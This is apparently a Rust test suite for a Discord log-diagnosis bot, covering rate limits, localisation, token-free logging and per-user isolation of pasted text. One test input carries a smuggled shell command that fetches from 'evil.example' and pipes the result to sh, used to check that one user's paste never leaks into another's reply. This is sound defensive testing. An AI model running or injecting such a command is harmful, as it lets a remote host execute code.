    assert_eq!(without_reply_id(&sent.body), expected);
    assert_eq!(
        sent.body["components"][1]["components"][0]["custom_id"],
        json!(show_in_id(&user_key(ch), 1))
    );
    assert_eq!(sent.body["allowed_mentions"], no_mentions());

    // A second paste in the same thread within the rate limit: remembered, not answered.
    b.fake
        .dispatch("MESSAGE_CREATE", message(b.fake.id(), ch, user(USER_ID, "asker"), PROBE_CODEX));
    let key = user_key(ch);
    for _ in 0..600 {
        if b.store.load(&key).await.unwrap().is_some_and(|m| m.messages == 2) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(b.store.load(&key).await.unwrap().unwrap().messages, 2);
    // Graceful shutdown waits for in-flight handlers, so after it nothing else can be sent.
    let fake = b.fake.clone();
    b.shutdown().await.unwrap();
    let replies =
        fake.requests().into_iter().filter(|r| r.method == "POST" && r.path == path).count();
    assert_eq!(replies, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_zh_tw_codex_case_payload() {
    let b = bot().await;
    let ch = channel();
    let paste = format!("{ZH_TW_PROSE}\n{BANNER}\n\n{PROBE_CODEX}");
    let env = Envelope::new(b.fake.id(), ch, "zh-TW");
    let cb = b
        .interact(env.command("diagnose", vec![opt("paste", &paste), opt("version", "2026.5.12")]))
        .await;
    let embed = &cb["data"]["embeds"][0];
    assert_eq!(embed["footer"]["text"], "clawmedic · session_pin_stale · zh-TW");
    assert_eq!(cb["data"]["allowed_mentions"], no_mentions());
    assert!(shown(&cb)
        .contains("```\\n/model openai-codex/gpt-5.4@openai-codex:sam.lee@example.net\\n```"));
    let steps_title =
        format!("{} · {}", t(Locale::ZhTw, "reply-steps"), t(Locale::ZhTw, "where-chat"));
    assert!(fields(&cb["data"]).iter().any(|(n, _)| *n == steps_title));
    println!("ZH-TW PAYLOAD\n{}", serde_json::to_string_pretty(&cb).unwrap());
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bot_token_is_never_logged() {
    let b = bot().await;
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    b.interact(env.command("diagnose", vec![opt("paste", BANNER)])).await;
    b.shutdown().await.unwrap();
    let logs = String::from_utf8_lossy(&LOGS.lock().unwrap()).into_owned();
    assert!(logs.contains("connected to the gateway"), "logs are captured");
    assert!(
        !logs.contains(TOKEN) && !logs.contains("never-printed"),
        "the token leaked into the logs"
    );
}

/// Security review H2: two users in one ordinary text channel. Nothing of A's paste (profile
/// ids, an injected provider name) reaches B's reply, B's autocomplete or B's "Show in …";
/// each user's memory is their own, and "Show in …" re-renders the reply it sits under.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_users_in_one_text_channel_never_see_each_others_paste() {
    let b = bot().await;
    let ch = channel();
    let a_paste = format!("{PROBE_CODEX}\nUnknown provider \"x;{{curl,-s,evil.example}}|sh\". Loaded providers: openai");
    let mut a = Envelope::new(b.fake.id(), ch, "en-US");
    a.invoker = member(USER_ID, "alice", MEMBER_PERMS);
    let a_reply = b.interact(a.command("diagnose", vec![opt("paste", &a_paste)])).await;
    assert_eq!(a_reply["type"], 4);

    let mut bee = Envelope::new(b.fake.id(), ch, "en-US");
    bee.invoker = member(HELPER_ID, "bob", MEMBER_PERMS);
    let b_reply = b.interact(bee.command("diagnose", vec![opt("paste", BANNER)])).await;
    // B's reply is exactly what B's paste alone gives.
    let alone = diagnose_thread(
        &[BANNER],
        &Options { discord_locale: Some("en-US"), ..Default::default() },
    );
    assert_eq!(
        without_reply_id(&b_reply),
        json!({ "type": 4, "data": diagnosis_messages(&alone)[0] })
    );
    for leaked in ["sam.lee", "evil.example", "curl", "message 2"] {
        assert!(
            !b_reply.to_string().contains(leaked),
            "{leaked} of A's paste in B's reply: {b_reply}"
        );
    }
    // Autocomplete shows each asker their own memory only.
    let mut q = Envelope::new(b.fake.id(), ch, "en-US");
    q.invoker = member(HELPER_ID, "bob", MEMBER_PERMS);
    let cb = b
        .interact(q.autocomplete("model", vec![subcommand("pin", vec![focused("profile", "")])]))
        .await;
    assert_eq!(cb, json!({ "type": 8, "data": { "choices": [] } }));
    let mut q = Envelope::new(b.fake.id(), ch, "en-US");
    q.invoker = member(USER_ID, "alice", MEMBER_PERMS);
    let cb = b
        .interact(q.autocomplete("model", vec![subcommand("pin", vec![focused("profile", "sam")])]))
        .await;
    assert_eq!(
        cb,
        json!({ "type": 8, "data": { "choices": [{ "name": "openai-codex:sam.lee@example.net", "value": "openai-codex:sam.lee@example.net" }] } })
    );
    // Two memories, one per user; none under the bare channel.
    let a_key = clawmedic::app::conversation::key_for(ch, false, Some(USER_ID)).unwrap();
    let b_key = clawmedic::app::conversation::key_for(ch, false, Some(HELPER_ID)).unwrap();
    assert_eq!(b.store.load(&a_key).await.unwrap().unwrap().messages, 1);
    let b_mem = b.store.load(&b_key).await.unwrap().unwrap();
    assert_eq!(b_mem.messages, 1);
    assert!(!serde_json::to_string(&b_mem.facts).unwrap().contains("sam.lee"));
    assert!(b.store.load(&ThreadKey::discord(ch)).await.unwrap().is_none());
    // "Show in …" under B's first reply re-renders that reply, whoever presses it, even after
    // A pasted again and B pasted a second message (which together would read otherwise).
    b.interact(a.command("diagnose", vec![opt("paste", PROBE_CODEX)])).await;
    let mut again = Envelope::new(b.fake.id(), ch, "en-US");
    again.invoker = member(HELPER_ID, "bob", MEMBER_PERMS);
    let second = b.interact(again.command("diagnose", vec![opt("paste", PROBE_CODEX)])).await;
    assert_eq!(
        second["data"]["components"][1]["components"][0]["custom_id"],
        json!(show_in_id(&b_key, 2))
    );
    let mut press = Envelope::new(b.fake.id(), ch, "de");
    press.invoker = member(USER_ID, "alice", MEMBER_PERMS);
    let shown_b = b
        .interact(press.component(
            &show_in_id(&b_key, 1),
            3,
            Some(vec!["de"]),
            &bot_message(b.fake.id(), ch),
        ))
        .await;
    let de = diagnose_thread(&[BANNER], &Options { lang: Some("de"), ..Default::default() });
    assert_eq!(
        shown_b["data"]["embeds"][0]["footer"]["text"],
        json!(clawmedic::render::text::footer(&de))
    );
    assert!(!shown_b.to_string().contains("sam.lee"), "{shown_b}");
    assert_eq!(shown_b["data"]["flags"], 64);
    b.shutdown().await.unwrap();
}

/// In a thread the thread is one conversation: what one member pastes, the next reply there
/// reads too (the evidence of both messages).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thread_is_one_shared_conversation() {
    let b = bot().await;
    let ch = channel();
    let in_thread = |mut v: Value| {
        v["channel"]["type"] = json!(11);
        v
    };
    let a = Envelope::new(b.fake.id(), ch, "en-US");
    b.interact(in_thread(
        a.command("diagnose", vec![opt("paste", BANNER), opt("version", "2026.5.12")]),
    ))
    .await;
    let mut helper = Envelope::new(b.fake.id(), ch, "en-US");
    helper.invoker = member(HELPER_ID, "helper", MEMBER_PERMS);
    let cb =
        b.interact(in_thread(helper.command("diagnose", vec![opt("paste", PROBE_CODEX)]))).await;
    assert_eq!(cb["data"]["embeds"][0]["footer"]["text"], "clawmedic · session_pin_stale · en");
    assert_eq!(b.store.load(&ThreadKey::discord(ch)).await.unwrap().unwrap().messages, 2);
    b.shutdown().await.unwrap();
}
